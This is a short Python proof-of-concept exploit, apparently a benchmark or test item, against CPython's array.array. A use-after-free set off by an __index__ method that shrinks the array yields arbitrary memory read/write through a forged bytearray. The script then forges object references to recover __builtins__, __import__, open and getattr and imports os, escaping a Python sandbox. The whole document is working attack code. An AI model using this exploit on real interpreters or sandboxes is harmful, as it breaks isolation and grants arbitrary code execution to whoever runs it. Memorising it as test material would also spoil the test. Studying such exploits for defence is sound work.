# layer: kernel
# proves: any memory by an item of array.array whose __index__ makes it shorter
# oracle: drop
# then: reach

import array, json
def p64(n): return n.to_bytes(8, "little")
fake = p64(1 << 40) + p64(id(bytearray)) + p64((1 << 63) - 1) + p64((1 << 63) - 1) + p64(0) + p64(0) + p64(0) + bytes(16)
where = id(fake) + 32                          # the bytes themselves: a bytearray that is all of memory
class E:
    def __init__(self, a): self.a = a
    def __index__(self):
        del self.a[1:]                         # the array moves to a small block, among those of the lists
        return where
def find():
    lists = [[None] * 8 for _ in range(4000)]
    for i in range(1000, 3000, 40): lists[i] = None
    for at in (8, 16, 24, 32):
        a = array.array("Q", bytes(8 * 40))
        a[at] = E(a)                           # written `at` items behind the end of the new block
        for one in lists:
            if one is not None and one[0] is not None: return one, a, lists
kept, got = [], None
for _ in range(200):
    kept.append([[None] * 8 for _ in range(50)])
    got = find()
    if got is not None: break
mem = got[0][0]
def rd(addr): return int.from_bytes(mem[addr:addr + 8], "little")
def wr(addr, v): mem[addr:addr + 8] = p64(v)
K = [None]
def obj(addr):
    wr(addr, rd(addr) + 1)
    wr(rd(id(K) + 24), addr)
    return K[0]
b = obj(rd(id(json.dumps) + 16))["__builtins__"]
imp, opener, get = b["__import__"], b["open"], b["getattr"]
os = imp("os")
